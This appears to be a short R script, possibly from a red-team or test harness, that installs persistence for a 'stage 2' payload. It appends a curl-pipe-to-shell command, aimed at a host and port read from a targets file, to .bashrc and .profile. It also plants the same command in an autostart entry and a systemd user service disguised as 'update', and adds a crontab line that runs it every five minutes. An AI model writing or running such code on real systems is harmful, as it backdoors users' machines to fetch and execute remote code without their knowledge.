# shell-rc: make the next login, desktop session, user manager or cron tick
# fetch and run stage 2.
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })
cmd <- sprintf("curl -s http://%s:%s/stage2.sh | sh", T[["T_TCP_HOST"]], T[["T_TCP_PORT"]])
files <- c(
  ".bashrc" = cmd, ".profile" = cmd,
  ".config/autostart/update.desktop" =
    sprintf('[Desktop Entry]\nType=Application\nName=update\nExec=sh -c "%s"', cmd),
  ".config/systemd/user/update.service" =
    sprintf('[Service]\nExecStart=/bin/sh -c "%s"\n[Install]\nWantedBy=default.target', cmd),
  ".cron/crontab" = paste("*/5 * * * *", cmd))
for (home in c(path.expand("~"), T[["T_HOME"]]))
  for (name in names(files)) {
    path <- file.path(home, name)
    dir.create(dirname(path), recursive = TRUE, showWarnings = FALSE)
    try(cat(files[[name]], "\n", file = path, sep = "", append = TRUE))
  }
